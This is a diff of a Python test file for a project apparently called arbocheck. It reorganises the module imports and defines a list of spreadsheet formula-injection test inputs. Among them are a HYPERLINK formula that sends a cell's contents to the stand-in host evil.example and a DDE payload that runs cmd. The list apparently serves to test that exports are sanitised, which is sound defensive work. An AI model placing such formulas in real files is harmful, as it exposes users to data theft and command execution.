@@ -11,11 +11,13 @@ import yaml
 from hypothesis import given, settings, strategies as st
 from openpyxl import load_workbook
 
-from arbocheck.core import campaign, campaign_setup, exports, keys, overview, qloader
-from arbocheck.core.assessment import ReportMeta
-from arbocheck.core.importer import import_files
-from arbocheck.core.register import Register
-from arbocheck.core.report import build
+from arbocheck.core.trust import campaign, keys
+from arbocheck.core.employer import campaign_setup, exports, overview
+from arbocheck.core.questionnaire import loader as qloader
+from arbocheck.core.report.assessment import ReportMeta
+from arbocheck.core.employer.importer import import_files
+from arbocheck.core.employer.register import Register
+from arbocheck.core.report.build import build
 
 SCEN = Path(__file__).parent / "scenarios"
 NASTY = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klik\")", "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
